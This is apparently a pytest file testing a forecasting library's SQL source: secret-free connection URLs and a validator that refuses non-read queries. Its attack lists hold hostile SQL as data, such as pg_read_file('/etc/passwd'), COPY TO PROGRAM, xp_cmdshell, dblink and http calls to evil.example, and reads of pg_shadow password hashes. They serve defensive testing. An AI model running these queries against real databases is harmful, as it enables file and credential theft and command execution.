"""Queries that fail, lie or know a secret."""

import datetime as dt
import uuid

import pytest
import sqlalchemy as sa

from forecast_assets.datasets.canonical import CanonicalReader
from forecast_assets.datasets.sources import SqlSource, limits, query_rules, read_only
from forecast_assets.errors import BadSales, BadSetting, Outage
from forecast_assets_tests.conftest import fresh_database
from forecast_assets_tests.hostile.doors import (
    TODAY,
    Rows,
    problem,
    read,
    three_days,
    through,
)


def test_a_canary_in_the_url_never_leaves(monkeypatch):
    monkeypatch.setenv("SALES_URL", "postgresql://bob:canary-4711@127.0.0.1:1/none?connect_timeout=1")
    source = SqlSource(url="env:SALES_URL", query="select 1")
    with pytest.raises(Outage) as refused:
        read(source)
    texts = (
        str(refused.value),
        repr(refused.value),
        str(refused.value.__cause__),
        repr(source),
        source.model_dump_json(),
    )
    assert "canary" not in "".join(texts)


def test_a_wrong_query_is_told_with_the_drivers_words(tmp_path):
    through("sql", tmp_path, three_days())
    source = SqlSource(url=f"sqlite:///{tmp_path}/sales.db", query="select * from  sold")
    with pytest.raises(BadSetting) as refused:
        read(source)
    assert refused.value.problem == "query 'select * from sold' fails: no such table: sold"


WRITES = [
    ("delete from sales", "it holds DELETE"),
    ("drop table sales", "it holds DROP"),
    ("select * from sales; drop table sales", "the query holds 2 statements"),
    ("commit; delete from sales", "the query holds 2 statements"),
    ("insert into sales select * from sales returning *", "it holds INSERT"),
    ("with gone as (delete from sales returning *) select * from gone", "it holds DELETE"),
    ("update sales set units = 0", "it holds UPDATE"),
    ("create table copy as select * from sales", "it holds CREATE"),
    ("vacuum", "the query"),
    ("pragma writable_schema = on", "the query"),
    ("", "the query holds 0 statements"),
    ("-- nothing", "the query holds 0 statements"),
    ("select 1 as x; -- no more", "no column"),
]
SQLITE_ATTACKS = [
    *WRITES,
    ("vacuum into '{folder}/stolen.db'", "the query"),
    ("attach '{folder}/stolen.db' as stolen", "the query"),
    ("select load_extension('{folder}/evil.so')", "the query calls load_extension"),
    ("select \"load_extension\"('{folder}/evil.so')", "the query calls load_extension"),
    ("select writefile('{folder}/stolen.db', 'x')", "the query calls writefile"),
    ("select * from pragma_journal_mode('off')", "the query calls pragma_journal_mode"),
    ("select length(hex(zeroblob(100000000)))", "too big"),
    ("select readfile('/etc/passwd')", "the query calls readfile"),
]
POSTGRESQL_ATTACKS = [
    *WRITES,
    ("select * from sales /* ' */; delete from sales --", "the query holds 2 statements"),
    ("select * into copy from sales", "it holds INTO"),
    ("select * from sales for update", "it holds LOCK"),
    ("copy sales to program 'touch {folder}/stolen'", "it holds COPY"),
    ("copy (select 1) to '{folder}/stolen'", "it holds COPY"),
    ("do $$ begin delete from sales; end $$", "the query"),
    ("call anything()", "the query"),
    ("set default_transaction_read_only = off", "the query"),
    ("explain analyze delete from sales", "the query"),
    ("select pg_read_file('/etc/passwd')", "the query calls pg_read_file"),
    ("select pg_catalog.pg_ls_dir('/')", "the query calls pg_ls_dir"),
    ('select "pg_catalog"."pg_read_file"(\'/etc/passwd\')', "the query calls pg_read_file"),
    ("select * from pg_ls_tmpdir()", "the query calls pg_ls_tmpdir"),
    ("select lo_export(1, '{folder}/stolen')", "the query calls lo_export"),
    ("select lo_import('/etc/passwd')", "the query calls lo_import"),
    ("select dblink('host=evil.example', 'select 1')", "the query calls dblink"),
    ("select query_to_xml('delete from sales', true, true, '')", "the query calls query_to_xml"),
    ("select set_config('transaction_read_only', 'off', false)", "the query calls set_config"),
    ("select pg_terminate_backend(pid) from pg_stat_activity", "the query calls pg_terminate_backend"),
    ("select 1 where exists (select pg_sleep(100))", "the query calls pg_sleep"),
    ("select 1 where exists (select pg_sleep(100) /* /* ' */ */)", "the query calls pg_sleep"),
    # PostgreSQL reads value.function as function(value), and escapes in names.
    ("select ('/etc/passwd'::text).pg_read_file", "the query calls pg_read_file"),
    (
        "select (f.path).pg_read_file from (select '/etc/passwd'::text as path) f",
        "the query calls pg_read_file",
    ),
    ("select U&\"pg_re\\0061d_file\"('/etc/passwd')", "can be read in two ways"),
    ("select * from rows from (pg_ls_dir('/')) as t", "the query calls pg_ls_dir"),
    # Functions that take a statement as a text.
    ("select * from ts_stat('select to_tsvector(pg_read_file(''/etc/passwd''))')", "the query calls ts_stat"),
    ("select * from crosstab('select 1') as t(a text)", "the query calls crosstab"),
    ("select net.http_get('http://evil.example')", "the query calls http_get"),
    # What is on no list: the database knows that it is volatile, or its own.
    ("select pg_hba_file_rules()", "the query calls pg_hba_file_rules"),
    ("select pg_stat_reset()", "the query calls pg_stat_reset"),
    ("select rolname as product_id, rolpassword as store_id from pg_authid", "the query reads pg_authid"),
    ("select * from pg_catalog.pg_shadow", "the query reads pg_shadow"),
    ("select * from information_schema.user_mapping_options", "the system's own schema"),
    ("select emptied()", "the query calls emptied, which may change something: it is volatile"),
    # A stable or built-in function of the same name, an aggregate and an operator hide no volatile one.
    ("select half_stable(1)", "the query calls half_stable, which may change something: it is volatile"),
    ("select lower(1)", "the query calls lower, which may change something: it is volatile"),
    ("select (1).lower", "the query calls lower, which may change something: it is volatile"),
    ("select gathered(units) from sales", "the query calls gathered, which may change something"),
    ("select 1 operator(public.<<<>) 2", "the query uses <<<>, which may change something"),
]
OTHERS = [
    ("mysql", "select '\\' , load_file('/etc/passwd') , '", "can be read in two ways"),
    ("mysql", "select 5--load_file('/etc/passwd')", "calls load_file"),
    ("mysql", "select 1 /* /* */ , load_file('/etc/passwd') -- */", "calls load_file"),
    ("mysql", "select 1 into outfile '/tmp/x'", "the query"),
    ("mysql", "select * from mysql.user", "the system's own schema"),
    ("mssql", "select 1 delete from [sales]", "it holds DELETE"),
    ("mssql", "select 1 exec xp_cmdshell 'id'", "the query"),
    ("mssql", "select 1 waitfor delay '1:00'", "the query"),
    ("oracle", "select utl_http.request('http://evil.example') from dual", "calls utl_http"),
    ("oracle", "select * from sales@elsewhere", "reads sales@elsewhere"),
    ("clickhouse", "select * from mysql('evil.example', 'a', 'b', 'c', 'd')", "calls mysql"),
    ("clickhouse", "select 1 settings readonly = 0", "it holds SELECT"),
    ("snowflake", "select system$wait(100)", "calls system$wait"),
    ("duckdb", "select * from read_csv('/etc/passwd')", "calls read_csv"),
    ("duckdb", "select * from read_xlsx('/srv/x')", "calls read_xlsx"),
    ("duckdb", "select * from \"read_duckdb\"('/srv/x')", "calls read_duckdb"),
    ("duckdb", "select * from enable_logging(storage = 'file')", "calls enable_logging"),
    ("duckdb", "from json_execute_serialized_sql('{}')", "calls json_execute_serialized_sql"),
    ("duckdb", "copy sales to '/srv/x'", "it holds COPY"),
    ("duckdb", "attach '/srv/x' as x", "it holds ATTACH"),
    ("mysql", "select release_all_locks()", "calls release_all_locks"),
    ("mysql", "select group_replication_set_as_primary('x')", "calls group_replication_set_as_primary"),
    ("mysql", "select keyring_key_remove('x')", "calls keyring_key_remove"),
]


def refusal(source: SqlSource) -> str:
    """What is said about a query; wrong columns count as one that was let through."""
    with pytest.raises((BadSales, BadSetting)) as refused:
        read(source)
    return refused.value.problem


@pytest.mark.parametrize(("query", "message"), SQLITE_ATTACKS)
def test_no_query_of_sqlite_does_more_than_read(query, message, tmp_path):
    source = through("sql", tmp_path, three_days())
    before = (tmp_path / "sales.db").read_bytes()
    assert message in refusal(source.model_copy(update={"query": query.format(folder=tmp_path) or " "}))
    assert (tmp_path / "sales.db").read_bytes() == before
    assert [file.name for file in tmp_path.iterdir()] == ["sales.db"]


@pytest.mark.parametrize(
    "statement",
    [
        "drop table sales",
        "vacuum into '{folder}/stolen.db'",
        "attach '{folder}/stolen.db' as stolen",
        "pragma x",
    ],
)
def test_sqlite_itself_refuses_what_a_parser_would_miss(statement, tmp_path):
    source = through("sql", tmp_path, three_days())
    with read_only.open_engine(sa.make_url(source.url)).connect() as connection:
        read_only.begin_reading(connection)
        with pytest.raises(sa.exc.DatabaseError, match="authoriz"):
            connection.exec_driver_sql(statement.format(folder=tmp_path))
    assert [file.name for file in tmp_path.iterdir()] == ["sales.db"]


def test_a_sqlite_file_that_is_not_there_is_not_made(tmp_path):
    with pytest.raises(Outage):
        read(SqlSource(url=f"sqlite:///{tmp_path}/none.db", query="select 1"))
    with pytest.raises(BadSetting, match="needs the path of a file"):
        read(SqlSource(url=f"sqlite:///file:{tmp_path}/none.db", query="select 1"))
    assert list(tmp_path.iterdir()) == []


_HIDDEN = [
    "create function half_stable(int) returns int language sql volatile as 'select 1'",
    "create function half_stable() returns int language sql stable as 'select 1'",
    "create function lower(int) returns int language sql volatile as 'select 1'",
    "create function paired(int, int) returns int language sql volatile as 'select 1'",
    "create aggregate gathered(int) (sfunc = paired, stype = int)",
    "create operator public.<<<> (leftarg = int, rightarg = int, function = paired)",
]


@pytest.fixture(scope="module")
def sales_database(postgres_url):
    """A database with a table of sales; the URL of its superuser."""
    with fresh_database(postgres_url) as url:
        engine = sa.create_engine(url)
        with engine.begin() as connection:
            connection.exec_driver_sql("create table sales as select 'S1' as store_id, 1 as units")
            emptied = "create function emptied() returns void language sql as 'delete from sales'"
            connection.exec_driver_sql(emptied)
            for statement in _HIDDEN:
                connection.exec_driver_sql(statement)
        yield url
        engine.dispose()


@pytest.mark.parametrize(("query", "message"), POSTGRESQL_ATTACKS)
def test_no_query_of_postgresql_does_more_than_read(query, message, sales_database, tmp_path, monkeypatch):
    monkeypatch.setenv("SALES_URL", sales_database)
    assert message in refusal(SqlSource(url="env:SALES_URL", query=query.format(folder=tmp_path) or " "))
    assert list(tmp_path.iterdir()) == []
    assert tables(sales_database) == [("sales", 1)]


@pytest.mark.parametrize(("backend", "query", "message"), OTHERS)
def test_no_query_of_another_database_does_more_than_read(backend, query, message):
    with pytest.raises(BadSetting) as refused:
        query_rules.check_query(query, backend)
    assert message in refused.value.problem


@pytest.mark.parametrize("backend", ["postgresql", "sqlite"])
def test_texts_of_megabytes_are_refused_before_they_take_memory(
    backend, sales_database, tmp_path, monkeypatch
):
    monkeypatch.setenv("FORECAST_SOURCE_MAX_MB", "16")
    fetched, text = [], "repeat('x', 1000000)"
    if backend == "sqlite":
        through("sql", tmp_path, three_days())
        sales_database, text = f"sqlite:///{tmp_path}/sales.db", "hex(zeroblob(500000))"
    monkeypatch.setenv("SALES_URL", sales_database)
    monkeypatch.setattr(limits, "check_rows", lambda _, rows, __: fetched.append(rows))
    query = f"""
        with recursive day(n) as (select 1 union all select n + 1 from day where n < 100000)
        select {text} || n as store_id, 'P1' as product_id, '2024-01-01' as date, n as units from day
    """  # noqa: S608
    assert "MB of memory" in refusal(SqlSource(url="env:SALES_URL", query=query))
    assert fetched[-1] < 100
    fetched.clear()
    longer = query.replace("000000", "200000").replace("500000", "600000")
    assert "is longer than 1,048,576 bytes" in refusal(SqlSource(url="env:SALES_URL", query=longer))
    assert fetched == [1]


def test_a_backslash_hides_no_function_where_the_server_reads_it_as_an_escape(sales_database, monkeypatch):
    url = sa.make_url(sales_database)
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    with engine.begin() as connection:
        connection.exec_driver_sql(f'alter database "{url.database}" set standard_conforming_strings = off')
    monkeypatch.setenv("SALES_URL", sales_database)
    query = r"select '\', ', pg_read_file($$/etc/passwd$$) --' as store_id"
    # A name is asked about as a bound value, which its backslash must not end.
    name = r"""select 1 as units from "\'::text]); commit; delete from sales; select 1,2,3 --" """
    try:
        assert "it has '?column?', 'store_id'" in refusal(SqlSource(url="env:SALES_URL", query=query))
        assert "does not exist" in refusal(SqlSource(url="env:SALES_URL", query=name))
    finally:
        with engine.begin() as connection:
            connection.exec_driver_sql(f'alter database "{url.database}" reset standard_conforming_strings')


@pytest.mark.parametrize(
    "statement",
    ["delete from sales", "commit; delete from sales", "create table copy as select 1", "drop table sales"],
)
def test_postgresql_itself_refuses_what_a_parser_would_miss(statement, sales_database):
    with read_only.open_engine(sa.make_url(sales_database)).connect() as connection:
        read_only.begin_reading(connection)
        with pytest.raises(sa.exc.DBAPIError, match="read-only transaction"):
            connection.exec_driver_sql(statement)
    assert tables(sales_database) == [("sales", 1)]


def tables(url: str) -> list[tuple[str, int]]:
    """Every table of the database with its number of rows."""
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)
    with engine.connect() as connection:
        return [
            (name, connection.execute(sa.text(f"select count(*) from {name}")).scalar_one())  # noqa: S608
            for name in sa.inspect(engine).get_table_names()
        ]


def test_a_role_that_could_write_is_warned_of(sales_database, monkeypatch):
    url = sa.make_url(sales_database)
    monkeypatch.setenv("SALES_URL", sales_database)
    source = SqlSource(url="env:SALES_URL", query="select * from sales")
    assert "its role is a superuser" in (source.warning() or "")
    role = f"reader_{uuid.uuid4().hex[:8]}"
    engine = sa.create_engine(url, poolclass=sa.pool.NullPool)

    def become(*grants: str) -> str | None:
        with engine.begin() as connection:
            for grant in grants:
                connection.exec_driver_sql(grant)
        return source.warning()

    monkeypatch.setenv("SALES_URL", url.set(username=role).render_as_string(hide_password=False))
    try:
        assert become(f"create role {role} login", f"grant select on sales to {role}") is None
        assert "its role may change tables" in (become(f"grant update on sales to {role}") or "")
        revoked = f"revoke update on sales from {role}"
        assert "files or programs" in (become(revoked, f"grant pg_execute_server_program to {role}") or "")
    finally:
        become_nobody = (f"drop owned by {role}", f"drop role {role}")
        with engine.begin() as connection:
            for statement in become_nobody:
                connection.exec_driver_sql(statement)


@pytest.mark.parametrize(
    "query",
    [
        "select store_id, sum(units) over (order by date) from sales where note like '%;drop%'",
        "with sold as (select * from sales) select * from sold union all select * from sales",
        "select coalesce(units, 0)::numeric, date_trunc('day', at), lag(units) over w from s window w as ()",
        "select * from sales s join lateral (select max(units) m from sales) x on true order by 1 limit 10",
        "(select * from sales)",
        "values ('S1', 'P1', date '2024-01-02', 3)",
        "select jsonb_array_elements(data) ->> 'units' as units from sales;",
        "select \"delete\", 'drop table sales' as note from sales -- update",
    ],
)
def test_queries_that_read_are_let_through(query):
    query_rules.check_query(query, "postgresql")


def test_a_comment_that_mysql_executes_is_refused():
    with pytest.raises(BadSetting, match="comment that MySQL executes"):
        query_rules.check_query("select 1 /*!50000 into outfile '/tmp/x' */", "mysql")


@pytest.mark.parametrize(
    "parameter",
    [
        "private_key=x",
        "apikey=x",
        "credentials_base64=x",
        "odbc_connect=x",
        "access_token=x",
        "passfile=/x",
        "driver=/tmp/evil.so",
        "a=b",
    ],
)
def test_a_url_keeps_only_parameters_that_hold_no_secret(parameter):
    with pytest.raises(BadSetting) as refused:
        SqlSource(url=f"postgresql://host/sales?sslmode=require&{parameter}", query="select 1")
    assert refused.value.problem == (
        f"the url of a SQL source has the parameter {parameter.partition('=')[0]!r}, which may hold a secret"
    )
    assert SqlSource(url="postgresql://host/sales?sslmode=require", query="select 1").url


@pytest.mark.parametrize(
    "url",
    [
        "mssql+pyodbc://u@host/sales?driver=ODBC+Driver+18;PWD=canary",
        "mssql+pyodbc://u@host/sales?driver=ODBC%3BPWD%3Dcanary",
        "mssql+pyodbc://u@host/sales?host=host%3BPWD%3Dcanary",
        "postgresql://u@host/dbname=sales password=canary",
        "snowflake://u@account/sales?role=reader;token=canary",
        "postgresql://u@host/postgresql://u:canary@host",
    ],
)
def test_no_part_of_a_url_hides_another_parameter(url):
    with pytest.raises(BadSetting, match="within one of its parts, which may hide a secret") as refused:
        SqlSource(url=url, query="select 1")
    assert "canary" not in str(refused.value)


def test_postgresql_answers_the_same_as_a_file(database_url, monkeypatch, tmp_path):
    monkeypatch.setenv("SALES_URL", database_url)
    query = """
        select 'S1' as store_id, 7 as product_id, day::date as date,
               (extract(day from day) / 2)::numeric as units
        from generate_series('2024-01-01'::timestamp, '2024-01-03', '1 day') as day
        where 'a%b' like '%'
    """
    sold = CanonicalReader(SqlSource(url="env:SALES_URL", query=query), dataset="shop", today=TODAY)
    frames = dict(sold)
    rows: Rows = [["S1", 7, dt.date(2024, 1, day), day / 2] for day in (1, 2, 3)]
    filed = CanonicalReader(through("csv", tmp_path, rows), dataset="shop", today=TODAY)
    assert frames["S1"].equals(dict(filed)["S1"])
    assert sold.content_hash == filed.content_hash


@pytest.mark.parametrize("end", ["", ";", " -- newest first", "; -- newest first", " /* newest first */ ; "])
def test_a_query_is_watched_whatever_stands_behind_its_end(end, tmp_path):
    source = through("sql", tmp_path, three_days())
    ended = source.model_copy(update={"query": f"select * from sales{end}"})  # noqa: S608
    assert ended.mark() == source.mark()
    assert read(ended)["S1"].height == 3


@pytest.mark.parametrize("kind", ["date", "text", "timestamp"])
def test_postgresql_answers_the_same_by_weeks_of_a_change_column(kind, database_url, monkeypatch):
    monkeypatch.setenv("SALES_URL", database_url)
    query = f"""
        select 'S1' as store_id, 'a:b' as product_id, cast(day::date as {kind}) as date,
               1 as units, day::timestamptz as updated_at
        from generate_series('2023-12-01'::timestamp, '2024-01-03', '1 day') as day where 'a%b' like '%'
    """  # noqa: S608
    plain = SqlSource(url="env:SALES_URL", query=query)
    watched = plain.model_copy(update={"change_column": "updated_at"})
    readers = [CanonicalReader(source, dataset="shop", today=TODAY) for source in (plain, watched)]
    assert [len(dict(reader)["S1"]) for reader in readers] == [34, 34]
    assert readers[0].content_hash == readers[1].content_hash
    pieces = watched.pieces()
    assert [piece.file for piece in pieces] == [f"2023-W{week}" for week in range(48, 53)] + ["2024-W01"]
    newest = list(pieces)[-1]
    (part,) = watched.pieces(list(pieces)[:-1])[newest]()
    assert part.read(["units"]).num_rows == 3


@pytest.mark.parametrize(
    ("units", "message"),
    [
        ("'NaN'::float8", None),
        ("'NaN'::numeric", None),
        ("'inf'::float8", "is infinite"),
        ("true", "true/false"),
    ],
)
def test_postgresql_values_are_judged_like_others(units, message, database_url, monkeypatch):
    monkeypatch.setenv("SALES_URL", database_url)
    query = f"select 'S1' as store_id, 'P1' as product_id, '2024-01-02'::date as date, {units} as units"
    source = SqlSource(url="env:SALES_URL", query=query)
    if message is None:
        assert read(source)["S1"]["units"].to_list() == [None]
    else:
        assert message in problem(source)


def test_postgresql_timestamps_with_zone_are_refused(database_url, monkeypatch):
    monkeypatch.setenv("SALES_URL", database_url)
    query = "select 'S1' as store_id, 'P1' as product_id, now() as date, 1 as units"
    assert "column 'date' holds a time zone" in problem(SqlSource(url="env:SALES_URL", query=query))
